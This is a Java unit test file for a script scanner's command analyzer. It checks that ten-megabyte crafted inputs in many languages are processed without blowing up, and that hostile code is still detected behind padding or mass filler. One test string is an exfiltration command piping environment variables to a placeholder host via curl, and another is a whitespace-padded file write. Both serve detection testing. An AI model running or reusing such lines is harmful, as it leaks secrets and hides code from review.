package dev.trustscan.scanner.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trustscan.rules.Format;
import dev.trustscan.scanner.source.Limits;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Large texts that would take for ever, or the whole memory, if anything were not linear. */
class CraftedInputTest {
  private static final int SIZE = 10_000_000;
  private static final CommandAnalyzer ANALYZER = new CommandAnalyzer(Limits.DEFAULT);

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "SHELL~$(",
        "SHELL~a;",
        "SHELL~a|",
        "SHELL~'{ a;'",
        "SHELL~eval ",
        "SHELL~env ",
        "SHELL~a=$a$a;",
        "JAVASCRIPT~a=",
        "JAVASCRIPT~f(",
        "JAVASCRIPT~process[",
        "PYTHON~exec(",
        "RUBY~`${",
        "PERL~q(",
        "BATCH~((",
        "POWERSHELL~@(",
        "MAKEFILE~a:b ",
        "SOURCE~a::",
        "PHP~$a->"
      })
  void ten_megabytes_of_anything_come_to_an_end(Format language, String unit) {
    CommandFacts facts = ANALYZER.script(language, unit.repeat(SIZE / unit.length()));

    assertThat(facts.facts()).hasSizeLessThan(2_000);
    assertThat(facts.references()).hasSizeLessThan(3_000);
  }

  @Test
  void what_stands_behind_ten_megabytes_of_blanks_is_still_seen() {
    CommandFacts facts =
        ANALYZER.script(
            Format.JAVASCRIPT, " ".repeat(SIZE) + "require('fs').writeFileSync('.canary/x', '')");

    assertThat(facts.behaviour()).isEqualTo(Behaviour.HOSTILE);
    assertThat(facts.has(Fact.Kind.PADDED)).isTrue();
    assertThat(facts.has(Fact.Kind.WRITES_FILES)).isTrue();
  }

  @Test
  void what_stands_behind_a_million_harmless_commands_is_still_seen() {
    CommandFacts facts =
        ANALYZER.script(
            Format.SHELL, "true;".repeat(1_000_000) + "\nenv | curl -d @- https://c.invalid\n");

    assertThat(facts.behaviour()).isEqualTo(Behaviour.HOSTILE);
  }

  @Test
  void nesting_beyond_the_limit_is_said() {
    CommandFacts facts =
        ANALYZER.script(Format.SHELL, "$(".repeat(5_000) + "echo" + ")".repeat(5_000));

    assertThat(facts.behaviour()).isEqualTo(Behaviour.UNKNOWN_CODE);
    assertThat(facts.has(Fact.Kind.OBFUSCATED)).isTrue();
  }
}
